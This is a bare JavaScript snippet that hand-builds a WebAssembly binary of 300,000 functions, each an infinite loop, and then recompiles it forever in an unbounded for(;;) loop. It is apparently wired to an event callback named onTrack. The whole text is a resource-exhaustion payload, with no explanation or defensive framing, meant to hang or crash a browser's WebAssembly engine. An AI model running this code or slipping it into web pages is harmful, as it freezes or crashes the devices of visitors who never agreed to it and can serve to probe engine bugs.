function leb(n) { const out = []; do { const b = n & 127; n >>= 7; out.push(n ? b | 128 : b); } while (n); return out; }
async function onTrack() {
  const count = 300000, body = [7, 0, 3, 64, 12, 0, 11, 11];
  const types = [...leb(count)], codes = [...leb(count)];
  for (let i = 0; i < count; i++) { types.push(0); codes.push(...body); }
  const bytes = Uint8Array.from([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, ...leb(types.length)].concat(types, 10, leb(codes.length), codes));
  for (;;) new WebAssembly.Module(bytes);
}
